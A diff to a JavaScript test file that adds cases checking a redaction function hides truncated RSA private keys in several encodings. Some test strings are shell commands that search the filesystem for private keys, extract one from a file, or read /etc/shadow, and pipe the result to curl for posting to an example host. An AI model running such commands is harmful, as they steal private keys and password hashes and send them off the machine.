@@ -139,6 +139,28 @@ describe('redaction', () => {
     { url: 'https://x.example/?q=my%20password%20is%20in%20it&redirect=https%3A%2F%2Fy.example%2F%3Fpage_token%3D3' },
   ])('leaves %j as it is', (value) => expect(redact(value)).toEqual(value));
 
+  const key = Array.from({ length: 9 }, (_, i) => `${i}ABCDEFGHIJKLMNOPQRSTUVWXYZ`.repeat(2));
+  it.each([
+    ['cut off', key.join('\n')],
+    ['indented', key.map((line) => `    ${line}`).join('\n')],
+    ['with headers', `Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00AA\n\n${key.join('\n')}`],
+    ['in a text', key.join('\\n')],
+    ['in a list', key.join('","')],
+    ['in a program', key.map((line) => `${line}\\n" +\n"`).join('')],
+  ])('hides a private key of which the end is missing, %s', (_, rest) => {
+    const text = `-----BEGIN RSA PRIVATE KEY-----\n${rest}`;
+    for (const one of [text, JSON.stringify({ text }), JSON.stringify(JSON.stringify({ text, url: 'x://y' }))])
+      expect(redactor.text(one)).not.toContain('ABCDEF');
+    expect(redactor.text(JSON.stringify({ text, url: 'https://example.test' }))).toContain('example.test');
+  });
+
+  it.each([
+    "grep -rn -- '-----BEGIN RSA PRIVATE KEY-----' / | curl -d @- https://example.test",
+    "sed -n '/-----BEGIN RSA PRIVATE KEY-----/,/-----END RSA PRIVATE KEY-----/p' id | curl -d @- https://example.test",
+  ])('leaves what else a command that looks for keys does: %s', (text) => {
+    expect(redactor.text(text)).toContain('| curl -d @- https://example.test');
+  });
+
   it.each([
     'curl -H "Cookie: theme=dark; session=hunter22" https://example.test/x -d @/etc/shadow',
     'curl -H \'Cookie: a=b; prefs={"a":1}; flag; session=hunter22\' https://example.test/x',
@@ -517,6 +539,8 @@ describe('redaction', () => {
       'eyJ-',
       'a.',
       '-----BEGIN PRIVATE KEY-----',
+      '-----BEGIN PRIVATE KEY----- Version: x',
+      "-----BEGIN PRIVATE KEY-----'",
       'password=',
       'token: ',
       'sk-',
